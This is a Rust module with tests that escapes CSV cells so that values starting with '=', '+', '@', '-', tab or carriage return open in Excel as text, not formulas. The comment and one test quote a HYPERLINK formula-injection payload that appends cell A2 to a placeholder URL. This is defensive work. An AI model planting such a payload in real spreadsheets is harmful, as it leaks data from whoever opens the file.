//! Text written into CSV files that people open in Excel: the coordinators' rejection,
//! warning and conflict files, and exports.
//!
//! Excel reads a cell that begins with `=`, `+`, `-` or `@` as a formula, and so does
//! LibreOffice; one beginning with a tab or a carriage return may become one when the
//! file is imported. A value copied from a drop (a district typed as
//! `=HYPERLINK("http://…"&A2, "…")`) would then run on the coordinator's computer, with
//! the rest of the file as its arguments. Such a cell is written with a leading `'`,
//! which Excel shows and does not run. A negative number (`-5`, `-2,5`) is left as it is:
//! Excel reads it as the number it is.

use std::borrow::Cow;

/// `text` as a CSV cell Excel shows rather than runs (see the module documentation).
pub fn inert_cell(text: &str) -> Cow<'_, str> {
    let Some(first) = text.chars().next() else { return Cow::Borrowed(text) };
    let formula = match first {
        '=' | '+' | '@' | '\t' | '\r' => true,
        '-' => !is_negative_number(text),
        _ => false,
    };
    if formula { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// `-` and digits, with at most one `.` or `,` between digits.
fn is_negative_number(text: &str) -> bool {
    let Some(number) = text.strip_prefix('-') else { return false };
    let (whole, fraction) = match number.split_once(['.', ',']) {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (number, None),
    };
    let digits = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_shown_not_run() {
        for formula in [
            "=2+3",
            "=HYPERLINK(\"http://x\"&A2,\"click\")",
            "+7 701 123 45 67",
            "@SUM(A1)",
            "-1+2",
            "-",
            "\tx",
            "\r=1",
        ] {
            assert_eq!(inert_cell(formula), format!("'{formula}"), "{formula}");
        }
    }

    #[test]
    fn other_text_and_negative_numbers_are_left_alone() {
        for text in ["", "Абай ауданы", "a=b", "2+3", "-5", "-2,5", "-0.75", "010101 500127", "'quoted"] {
            assert_eq!(inert_cell(text), text, "{text}");
        }
    }
}
